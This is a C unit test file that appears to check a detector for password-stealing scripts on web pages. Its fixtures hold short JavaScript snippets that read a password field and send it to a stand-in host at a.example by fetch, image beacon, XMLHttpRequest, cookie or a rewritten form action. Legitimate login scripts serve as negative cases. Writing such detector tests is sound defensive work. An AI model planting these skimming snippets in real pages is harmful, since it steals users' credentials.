#include "webshell/stealer.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdlib.h>

#include <cmocka.h>

#include "base/buf.h"

/* Hosts are of RFC 2606; nothing of this does anything. */
#define PASSWORD "var p = document.getElementById('password').value;\n"

static const struct stealer_case {
    const char *name, *text;
    const char *expected; /* "way line where;" of each */
} cases[] = {
    { "a.js", PASSWORD "fetch('https://a.example/x', { method: 'POST', body: p });",
      "0 2 https://a.example/x;" },
    { "a.js", PASSWORD "var q = btoa(p);\nnew Image().src = '//a.example/?' + q;",
      "0 3 //a.example/?;" },
    { "a.js", PASSWORD "var i = new Image();\ni.src = 'x.gif?' + p;", "1 3 ;" },
    { "a.js",
      "function go(u, p) {\nvar x = new XMLHttpRequest();\nx.open('GET', 'b.aspx?' + u + p);\n"
      "x.send();\n}\ngo(f.username.value, f.password.value);",
      "1 3 ;" },
    { "a.js", PASSWORD "x.open('POST', 'https://a.example/');\nx.send(p);", "0 3 ;" },
    { "flogon.js",
      PASSWORD "x.open('POST', 'themes/b.aspx');\nx.send(p);\ndocument.logonForm.submit();",
      "2 3 ;" },
    { "a.html",
      "<p>it's</p>\n<script>document.cookie = 'a=' + document.forms[0].txtPassword.value;"
      "</script>",
      "4 2 ;" },
    { "a.js", PASSWORD "f.action = 'https://a.example/';", "3 2 https://a.example/;" },

    /* A logon script looks at the box, and remembers the name and a flag. */
    { "flogon.js",
      "function clk() { var p = gbid('password');\nif (p.value == '') { p.focus(); return; }\n"
      "document.cookie = 'logondata=acc=1&lgn=' + gbid('username').value;\n"
      "gbid('password').value = '';\ndocument.logonForm.submit(); }",
      "" },
    /* A login in the body of a request to the own server. */
    { "a.js", PASSWORD "$.ajax({ url: '/login', type: 'POST', data: { p: p } });", "" },
    { "a.js", PASSWORD "if (p.length < 8) alert('short');\nfetch('https://a.example/news');",
      "" },
    /* What runs at the server is not the browser's. */
    { "a.html", "<script runat=server>fetch('https://a.example/' + f.password.value);</script>",
      "" },
    { "a.js", "var a = 1;", "" },
};

static void check_case(const struct stealer_case *c)
{
    struct arena arena = ARENA_INIT;
    struct buf out = BUF_INIT;
    struct parts parts;
    struct slice text = slice_from(c->text);
    split_page(&arena, text, slice_from(c->name), &parts);
    for (const struct stealer *s = stealer_find(&arena, text, &parts); s; s = s->next)
        buf_printf(&out, "%d %u %.*s;", (int)s->way, s->line, SLICE_FMT(s->where));
    if (!slice_eq(buf_slice(&out), slice_from(c->expected)))
        print_error("%s\n", c->text);
    assert_string_equal(out.ptr ? out.ptr : "", c->expected);
    buf_deinit(&out);
    arena_deinit(&arena);
}

static void test_cases(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++)
        check_case(&cases[i]);
}

int main(void)
{
    const struct CMUnitTest tests[] = { cmocka_unit_test(test_cases) };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
